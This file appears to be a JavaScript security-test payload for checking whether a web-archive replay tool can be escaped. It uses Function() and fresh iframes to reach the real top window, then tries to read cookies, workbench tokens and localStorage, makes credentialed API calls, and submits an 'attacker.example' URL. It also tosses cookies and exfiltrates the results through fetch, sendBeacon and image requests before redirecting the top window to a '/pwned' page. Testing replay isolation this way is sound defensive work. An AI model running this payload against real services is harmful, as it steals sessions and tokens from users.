// See replay-escape.html. Every attempt is recorded as what it returned, or "blocked: <error>". A replay tool
// rewrites this script's `top`, `parent`, `location` and `eval`; code made at run time (Function) or a fresh
// frame's window reach the real ones, as an attacker's script would. The real top is the one whose location this
// page may not read (another origin): when there is one, the page is framed by someone else.
(async () => {
  const out = {ran: true};
  const probes = {
    function: () => Function("return top")(),
    blankFrame: () => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      return frame.contentWindow.top;
    },
  };
  const real = {window, top: window, parent: window, framed: false, via: "none"};
  for (const [via, probe] of Object.entries(probes)) {
    try {
      const top = probe();
      try { top.location.href.length; } catch (error) { Object.assign(real, {top, framed: true, via}); break; }
    } catch (error) { out["probe-" + via] = "blocked: " + error.name; }
  }
  try { real.parent = Function("return parent")(); } catch (error) {}
  out.via = real.via;
  const params = new URLSearchParams(location.search);
  const target = params.get("target") || "http://127.0.0.1:8080";
  const attempt = async (name, fn) => {
    try { out[name] = String(await fn()); } catch (error) { out[name] = "blocked: " + error.name; }
  };
  out.framed = real.framed;
  await attempt("cookie", () => document.cookie);
  await attempt("parentCookie", () => parent.document.cookie);
  await attempt("topCookie", () => top.document.cookie);
  await attempt("realParentCookie", () => real.parent.document.cookie);
  await attempt("realTopCookie", () => real.top.document.cookie);
  await attempt("parentToken", () => parent.workbenchToken);
  await attempt("realTopToken", () => real.top.workbenchToken);
  await attempt("realTopStorage", () => real.top.localStorage.getItem("token"));
  await attempt("ancestors", () => Array.from(real.window.location.ancestorOrigins || []).join(" "));
  await attempt("api", async () => {
    const answer = await fetch(target + "/api/captures", {credentials: "include"});
    return answer.status + " " + await answer.text();
  });
  await attempt("apiNoCors", async () => (await fetch(target + "/api/submit", {
    method: "POST", mode: "no-cors", credentials: "include", body: "url=https://attacker.example/"})).type);
  await attempt("xhr", () => new Promise((ok, fail) => {
    const xhr = new XMLHttpRequest(); xhr.open("GET", target + "/api/token"); xhr.withCredentials = true;
    xhr.onload = () => ok(xhr.status + " " + xhr.responseText); xhr.onerror = () => fail(new Error("xhr")); xhr.send();
  }));
  // Cookie tossing: a sibling host may set a cookie for the parent domain, which the workbench would then receive.
  const domain = new URL(target).hostname;
  await attempt("tossCookie", () => { document.cookie = `wb_session=TOSSED; Domain=${domain}; Path=/`; return "set"; });
  await attempt("tossRealCookie", () => {
    Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set.call(real.window.document,
      `wb_visible=TOSSED; Domain=${domain}; Path=/`);
    return "set";
  });
  const loot = encodeURIComponent(JSON.stringify(out));
  await attempt("exfilFetch", async () => (await fetch(target + "/collect?via=fetch&loot=" + loot,
                                                       {mode: "no-cors"})).type);
  await attempt("exfilBeacon", () => navigator.sendBeacon(target + "/collect?via=beacon", loot));
  await attempt("exfilImage", () => { new Image().src = target + "/collect?via=img&loot=" + loot; return "sent"; });
  // Navigating the window above is tried only when framed (replayed), so that capturing this page stays on it.
  if (real.framed) {
    await attempt("realTopNavigation", () => { real.top.location = target + "/pwned?via=real-top"; return "set"; });
    await attempt("realTopHref", () => { real.top.location.href = target + "/pwned?via=real-top-href"; return "set"; });
  }
  const shown = document.getElementById("loot");
  shown.textContent = JSON.stringify(out);
  shown.dataset.done = "true";
  if (real.framed) {
    // Then, once the report is written, what may take this frame itself elsewhere: a popup (a replay tool may open
    // it here), the replay tool's idea of the top window, a link aimed at the top window.
    setTimeout(() => {
      try { window.open(target + "/pwned?via=open"); } catch (error) {}
      try { top.location = target + "/pwned?via=top"; } catch (error) {}
      const link = document.getElementById("escape");
      link.href = target + "/pwned?via=link";
      link.click();
    }, 1000);
  }
})();
